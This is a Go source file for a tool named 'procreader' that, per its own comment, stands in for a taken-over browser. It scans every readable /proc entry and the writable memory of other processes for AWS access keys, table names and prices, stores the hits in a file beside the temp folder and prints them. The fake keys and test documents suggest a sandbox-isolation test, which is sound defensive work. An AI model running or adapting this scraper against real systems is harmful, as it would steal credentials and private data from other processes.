// Command procreader runs in the place of a browser that was taken over. It reads all of /proc that it may, keeps what
// it found in the folder of temporary files for its next run, and writes to standard error which access keys, names of
// tables and documents its runs found, with the number of processes that it saw.
package main

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
)

// wanted are an access key of the local stack, which names its function, the name of a table, a price, and a document
// of a test. Each begins with a fixed text, which makes the search of a memory fast.
var wanted = []*regexp.Regexp{
	regexp.MustCompile(`AWS_ACCESS_KEY_ID=LOCAL[A-Z]+`), regexp.MustCompile(`_TABLE=[a-z-]+`),
	regexp.MustCompile(`PRICE_[A-Z]+=[0-9]+`), regexp.MustCompile(`<p>Document of [a-z]+`),
}

// most is the number of bytes that procreader reads of one file.
const most = 16 << 20

func main() {
	found, processes := map[string]bool{}, 0
	look := func(text []byte) {
		for _, pattern := range wanted {
			for _, match := range pattern.FindAll(text, -1) {
				found[string(match)] = true
			}
		}
	}
	kept := filepath.Join(filepath.Dir(os.Getenv("TMPDIR")), "procreader") // beside the profile folder, which is removed
	before, _ := os.ReadFile(kept)
	look(before)
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, pid := range pids {
		if pid == fmt.Sprintf("/proc/%d", os.Getpid()) {
			continue
		}
		processes++
		_ = filepath.WalkDir(pid, func(path string, entry fs.DirEntry, err error) error {
			if entry != nil && entry.IsDir() && (entry.Name() == "task" || entry.Name() == "net") {
				return fs.SkipDir // threads have the memory and the environment of their process
			}
			// memory reads mem; pagemap has the places of pages and no content.
			if err == nil && entry.Type().IsRegular() && entry.Name() != "mem" && entry.Name() != "pagemap" {
				if file, err := os.Open(path); err == nil {
					text, _ := io.ReadAll(io.LimitReader(file, most))
					file.Close()
					look(text)
				}
			}
			return nil
		})
		look(memory(pid))
	}
	all := strings.Join(slices.Sorted(maps.Keys(found)), ";")
	_ = os.WriteFile(kept, []byte(all), 0o600)
	fmt.Fprintf(os.Stderr, "procreader: %d processes;%s;end", processes, all)
	os.Exit(1)
}

// memory returns the writable memory of a process, as far as it may be read.
func memory(pid string) []byte {
	maps, _ := os.ReadFile(pid + "/maps")
	mem, err := os.Open(pid + "/mem")
	if err != nil {
		return nil
	}
	defer mem.Close()
	var all []byte
	for line := range bytes.Lines(maps) {
		var from, to int64
		var rights string
		if n, _ := fmt.Sscanf(string(line), "%x-%x %s", &from, &to, &rights); n == 3 && strings.HasPrefix(rights, "rw") &&
			to-from < most && len(all) < most {
			region := make([]byte, to-from)
			n, _ := mem.ReadAt(region, from)
			all = append(all, region[:n]...)
		}
	}
	return all
}
